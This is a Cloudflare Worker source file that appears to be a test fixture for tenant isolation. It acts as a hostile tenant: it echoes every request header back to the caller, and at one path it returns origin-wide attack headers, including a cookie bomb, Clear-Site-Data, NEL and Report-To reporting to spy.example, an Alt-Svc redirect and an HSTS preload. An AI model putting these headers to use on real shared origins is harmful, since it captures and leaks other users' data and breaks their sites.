// @ts-check
// A hostile tenant that keeps whatever its callers send: it answers with every request header it
// got. At /origin-wide it answers with headers that would act on every tenant's pages.
import { WorkflowEntrypoint } from 'cloudflare:workers';

export class TenantWorkflow extends WorkflowEntrypoint {
  async run() {
    return null;
  }
}

export default {
  async fetch(request) {
    if (new URL(request.url).pathname === '/origin-wide') {
      const headers = new Headers({ 'x-tenant-header': 'kept', 'service-worker-allowed': '/' });
      headers.append('set-cookie', 'bomb=' + 'x'.repeat(4000) + '; Path=/; Max-Age=31536000');
      headers.append('set-cookie', 'other=1; Path=/t/');
      headers.set('clear-site-data', '"cache", "cookies", "storage"');
      headers.set('nel', '{"report_to": "spy", "max_age": 31536000, "include_subdomains": true}');
      headers.set('report-to', '{"group": "spy", "max_age": 31536000, "endpoints": [{"url": "https://spy.example/r"}]}');
      headers.set('alt-svc', 'h3="spy.example:443"; ma=31536000');
      headers.set('strict-transport-security', 'max-age=63072000; includeSubDomains; preload');
      return new Response('answer', { status: 201, headers });
    }
    return Response.json(Object.fromEntries(request.headers));
  },
};
